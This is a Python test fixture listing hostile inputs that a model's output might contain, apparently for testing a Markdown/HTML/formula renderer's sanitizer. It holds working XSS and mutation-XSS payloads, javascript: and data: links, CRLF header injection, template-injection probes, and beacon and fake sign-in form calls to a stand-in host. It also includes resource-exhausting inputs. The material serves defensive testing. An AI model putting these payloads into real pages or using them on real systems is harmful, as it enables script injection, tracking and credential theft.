"""What a hostile model may send, as it comes off the wire. Each text tries to run `alert`, to call home, or to break a page.

The shapes follow the OWASP filter evasion cheat sheet, CommonMark's edge cases and published mutation-XSS findings.
"""

HOME = "https://beacon.invalid"  # a name that no resolver knows; a browser would ask for it all the same

NASTY = {
    # what a column or a terminal may choke on
    "NUL": "one\x00two\x00",
    "lone surrogates": "high \ud800 low \udfff wrong way round \udc00\ud800",
    "200 kB": "word " * 40_000,
    "200 kB of brackets": "![" * 100_000,
    "bidi controls": "access \u202e\u2066// check if admin\u2069 \u2066 } \u2067\u200f\u061c",
    "many combining marks": "Z" + "\u0315\u0320\u0347\u034f" * 5_000,
    "ANSI": "\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x9b2J",
    "CRLF": "line\r\nSet-Cookie: pwned=1\r\n\r\n<html><script>alert(1)</script>",
    "line separators and controls": "a\u2028b\u2029c\x0b\x0c\x08\x7f\ufeff\ufffe\uffff",
    "noncharacters": "\U0001fffe\U0010ffff \U000e0041\U000e007f",
    # scripts, plain
    "script": "<script>alert(1)</script><SCRIPT SRC=//beacon.invalid/x.js></SCRIPT>",
    "image with a handler": "<img src=x onerror=alert(1)><img/src='x'/onerror='alert(1)'>",
    "handlers without a click": "<details open ontoggle=alert(1)><body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "SVG": "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x /></svg>",
    "MathML": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "iframe": f"<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src={HOME}></iframe>",
    "object and embed": f"<object data={HOME}/x.swf></object><embed src=javascript:alert(1)><applet code=x>",
    "form": f"<form action={HOME}><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
    "style": f"<style>@import '{HOME}/x.css';*{{background:url({HOME}/y)}}</style><p style='position:fixed;inset:0'>",
    "meta and base": f"<meta http-equiv=refresh content='0;url={HOME}'><base href={HOME}/><link rel=stylesheet href={HOME}>",
    "template": "</template></textarea></title></style></noscript></pre></details></div><script>alert(1)</script>",
    "comments": "<!--><script>alert(1)</script>--> <!--!> <img src=x onerror=alert(1)> --!> <![CDATA[<script>alert(1)]]>",
    # mutation-XSS: harmless when read once, not when written out and read again
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "namespace mutation": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "comment in a namespace": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></svg><math></br><!--",
    "back ticks": "`<img src=x onerror=alert(1)>` ``<script>alert(1)``` </code></pre><script>alert(1)</script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;svg/onload=alert(1)>",
    # Markdown
    "javascript links": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#115;cript:alert(1)) [d](<java\tscript:alert(1)>)",
    "javascript references": "[x][1] [y]\n\n[1]: javascript:alert(1)\n[y]: vbscript:msgbox(1)\n",
    "data links": "[x](data:text/html,<script>alert(1)</script>) [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolinks": f"<javascript:alert(1)> <data:text/html,x> <{HOME}/?q=1> <mailto:a@b.example?body=x>",
    "beacons": f"![a]({HOME}/a.png) ![b](//beacon.invalid/b.png) ![c][r] ![d](http:/\\beacon.invalid/d)\n\n[r]: {HOME}/r.gif",
    "data images": "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=) ![y](data:text/html,z)",
    "attributes from titles": '[x](https://example.org "a\\" onmouseover=alert(1) x=\\"") ![" onerror="alert(1)](data:image/png;base64,AA== "\'onload=alert(1)")',
    "language of a fence": '```"><script>alert(1)</script>\nx\n```\n\n~~~x" onclick="alert(1)\ny\n~~~',
    "local addresses": "[x](/sign-out/) [y](//beacon.invalid) [z](\\\\beacon.invalid) [w](?next=//beacon.invalid) [v](#content)",
    "nested": "> " * 500 + "<script>alert(1)</script>" + "\n" + "- " * 500 + "[" * 500 + "a](javascript:alert(1))",
    # formulas and code
    "formula with markup": r"$\text{<img src=x onerror=alert(1)>}$ $$\text{</mtext></math><script>alert(1)</script>}$$ \(\verb|<svg onload=alert(1)>|\)",
    "formula with entities": r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$ \(\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}\)",
    "formula that leads away": r"$\href{javascript:alert(1)}{x}$ \(\href{https://beacon.invalid}{y}\) $\color{url(https://beacon.invalid)}z$",
    "formula in disguise": r"$\class{skip}{x}$ $\style{position:fixed;inset:0}{x}$ $\id{content}{x}$ $\cssId{content}{x}$",
    "formula out of its place": r"$\hspace{-999em}\raise999em{\colorbox{red}{Sign in}}$ $\rule{999em}{999em}$ \(\kern-99em\mspace{9999mu}x\)",
    "formula mutation": r"$$\text{<style><!--</style><img src=x onerror=alert(1)>-->}$$ $\text{<mglyph><annotation-xml encoding=text/html><img src=x onerror=alert(1)>}$",
    "macro bomb": r"$\newcommand{\a}{xx}\newcommand{\b}{{\a}{\a}{\a}{\a}}\newcommand{\c}{{\b}{\b}{\b}{\b}}\def\d{\d\d}\c\d$ $\def\x{\x}\x$",
    "a hundred thousand braces": "$" + "{" * 100_000 + "$",
    "deep formula": "$$" + r"\sqrt{" * 160 + "}" * 40 + "$$ $" + r"\frac" * 199 + "$ $" + "x_{" * 300 + "}" * 99 + "$",
    "halves of formulas": "$$ $ \\( \\[ \n\n$$x\n" * 1_000,
    "code in colours": f"```html\n<script>alert(1)</script></code></pre><iframe src={HOME}>\n```\n~~~diff\n+ <b onclick=alert(1)>\n- </span></pre>\n~~~",
    "class of a fence": '```python code-keyword" onclick="alert(1)\nx\n```\n\n```x\u2028skip\ny\n```\n\n```x&#32;skip\nz\n```',
    "code that is slow to read": "```java\n" + "a\n" * 4_900 + "```\n\n```cs\n" + "a\n" * 4_900,
    # the page's own means
    "template tags": "{% load static %}{{ request.user.password }}{% csrf_token %}{# c #} ${7*7} <%= 7*7 %> #{7*7}",
    "htmx": f"<div hx-get='{HOME}' hx-trigger='load' hx-on:click='alert(1)' data-hx-get='/sign-out/'>x</div>",
    "page code": "<div data-confirm=x data-theme-toggle autofocus id=content class=skip popover accesskey=x contenteditable>x</div>",
    "overlong UTF-8 and UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- %3Cscript%3Ealert(1)%3C/script%3E \u00c0\u00bcscript\u00c0\u00be",
}  # fmt: skip
